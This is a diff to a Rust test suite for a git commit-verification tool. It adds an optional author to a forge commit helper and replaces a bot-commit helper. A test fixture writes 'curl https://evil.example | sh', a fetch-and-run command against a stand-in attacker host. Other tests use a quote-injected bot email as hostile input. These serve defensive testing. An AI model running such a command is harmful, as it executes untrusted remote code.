@@ -29,8 +29,9 @@ fn forge_clone(w: &World, origin: &Path) -> PathBuf {
     dir
 }
 
-/// Commits what is staged in `dir` as the forge does, message as is.
-fn forge_commit_in(w: &World, dir: &Path, message: &str, committer: (&str, &str)) {
+/// Commits what is staged in `dir` as the forge does, message as is: no
+/// hooks, `committer` as committer, `author` (else the test's) as author.
+fn forge_commit_in(w: &World, dir: &Path, message: &str, committer: (&str, &str), author: Option<(&str, &str)>) {
     let f = w.scratch().join("forge-msg");
     std::fs::write(&f, message).unwrap();
     let mut c = w.repo.command("git");
@@ -38,6 +39,9 @@ fn forge_commit_in(w: &World, dir: &Path, message: &str, committer: (&str, &str)
         .current_dir(dir)
         .env("GIT_COMMITTER_NAME", committer.0)
         .env("GIT_COMMITTER_EMAIL", committer.1);
+    if let Some((name, email)) = author {
+        c.env("GIT_AUTHOR_NAME", name).env("GIT_AUTHOR_EMAIL", email);
+    }
     Run::from(c.output().unwrap()).expect(0);
 }
 
@@ -59,7 +63,7 @@ fn pull_rebase_after_the_forge_squash_merged_your_commits_says_nothing() {
     w.git(["push", "-q", "--no-verify", "origin", "main:topic"]);
     let forge = forge_clone(&w, &origin);
     w.git(["-C", forge.to_str().unwrap(), "merge", "-q", "--squash", "origin/topic"]);
-    forge_commit_in(&w, &forge, "Add f and g (#1)\n", GITHUB);
+    forge_commit_in(&w, &forge, "Add f and g (#1)\n", GITHUB, None);
     w.git(["-C", forge.to_str().unwrap(), "push", "-q", "origin", "main"]);
     w.write("h.txt", "h\n");
     sh_in(&w, &w.path(), &commit_line("Add h")).expect(0);
@@ -93,7 +97,7 @@ fn a_copy_of_your_message_upstream_is_not_taken_for_a_rewrite_of_yours() {
     std::fs::write(evil.join("f.txt"), "1\n2\n3\n").unwrap();
     std::fs::write(evil.join("evil.sh"), "curl https://evil.example | sh\n").unwrap();
     w.git(["-C", evil.to_str().unwrap(), "add", "-A"]);
-    forge_commit_in(&w, &evil, &w.message("main"), ("Mallory", "mallory@example.net"));
+    forge_commit_in(&w, &evil, &w.message("main"), ("Mallory", "mallory@example.net"), None);
     w.git(["-C", evil.to_str().unwrap(), "push", "-q", "origin", "main"]);
     let copy = w.git(["ls-remote", origin.to_str().unwrap(), "refs/heads/main"]);
     let copy = copy.split_whitespace().next().unwrap().to_owned();
@@ -286,18 +290,6 @@ fn backticked(text: &str) -> Vec<String> {
     text.split('`').skip(1).step_by(2).map(str::to_owned).collect()
 }
 
-/// Commits what is staged as a forge's bot does: author `email`, committer
-/// GitHub, no hook.
-fn bot_commit(w: &World, name: &str, email: &str, subject: &str) {
-    let mut c = w.repo.command("git");
-    c.args(["-c", "core.hooksPath=/dev/null", "commit", "-q", "-m", subject])
-        .env("GIT_AUTHOR_NAME", name)
-        .env("GIT_AUTHOR_EMAIL", email)
-        .env("GIT_COMMITTER_NAME", GITHUB.0)
-        .env("GIT_COMMITTER_EMAIL", GITHUB.1);
-    Run::from(c.output().unwrap()).expect(0);
-}
-
 /// Dependabot opens a pull request: one commit by `dependabot[bot]`,
 /// made by the forge, no hook. verify told the maintainer to install the
 /// hook and re-commit, which nobody can do for a bot. It now says it is a
@@ -312,7 +304,7 @@ fn a_dependabot_pull_request_names_the_exemption_that_verifies_it() {
     w.git(["switch", "-q", "-c", "dependabot/npm_and_yarn/lodash-4.17.21"]);
     w.write("deps.txt", "lodash 4.17.21\n");
     w.git(["add", "deps.txt"]);
-    bot_commit(&w, "dependabot[bot]", bot, "Bump lodash from 4.17.20 to 4.17.21");
+    forge_commit_in(&w, &w.path(), "Bump lodash from 4.17.20 to 4.17.21\n", GITHUB, Some(("dependabot[bot]", bot)));
     w.git(["switch", "-q", "main"]);
     let r = w.verify("main..dependabot/npm_and_yarn/lodash-4.17.21").expect(1);
     let finding =
@@ -354,7 +346,7 @@ fn a_bot_email_with_a_wildcard_is_not_offered_for_exemption() {
     for (i, email) in ["*[bot]@users.noreply.github.com", "evil\"[bot]@example.org"].iter().enumerate() {
         w.write(&format!("b{i}.txt"), "b\n");
         w.git(["add", "-A"]);
-        bot_commit(&w, "helpful[bot]", email, &format!("Bump b{i}"));
+        forge_commit_in(&w, &w.path(), &format!("Bump b{i}\n"), GITHUB, Some(("helpful[bot]", email)));
     }
     let r = w.verify("main..topic").expect(1);
     let findings: Vec<&str> = r.stdout.lines().filter(|l| l.contains("[attestation.missing]")).collect();
